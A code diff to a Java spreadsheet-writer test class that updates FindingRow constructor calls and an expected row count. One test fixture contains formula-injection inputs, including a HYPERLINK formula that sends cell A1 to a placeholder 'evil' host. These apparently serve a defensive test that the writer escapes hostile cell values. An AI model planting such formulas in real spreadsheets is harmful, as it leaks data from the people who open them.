@@ -120,7 +120,7 @@ class XlsxWriterTest {
         books.rejected.set(
                 0,
                 new FindingRow(
-                        row.invoice(), row.entity(), "\t=1+1", "=HYPERLINK(\"http://evil/\"&A1)", row.finding()));
+                        row.subject(), true, row.entity(), "\t=1+1", "=HYPERLINK(\"http://evil/\"&A1)", row.finding()));
         return books;
     }
 
@@ -128,7 +128,7 @@ class XlsxWriterTest {
     void entitiesThatAreNoneOfOursCannotBendASum() throws IOException {
         var books = SampleBooks.of(1);
         FindingRow row = books.rejected.getFirst();
-        books.rejected.set(0, new FindingRow(row.invoice(), "*", row.contractor(), row.number(), row.finding()));
+        books.rejected.set(0, new FindingRow(row.subject(), true, "*", row.contractor(), row.number(), row.finding()));
         assertThat(Written.of(books).dump())
                 .contains("Rejected!A2 text (unknown)")
                 .anyMatch(line -> line.matches("Checks!C1 .* truth false")); // the document itself says NL-BV
@@ -223,7 +223,7 @@ class XlsxWriterTest {
     @Test
     void anEmptyRunStillHasEveryTie() throws IOException {
         List<String> dump = Written.of(new SampleBooks()).dump();
-        assertThat(dump).filteredOn(line -> line.startsWith("Checks!A")).hasSize(1 + 1 + 14);
+        assertThat(dump).filteredOn(line -> line.startsWith("Checks!A")).hasSize(1 + 1 + 15);
         assertThat(dump).anyMatch(line -> line.matches("Checks!C1 .* truth true"));
     }
 
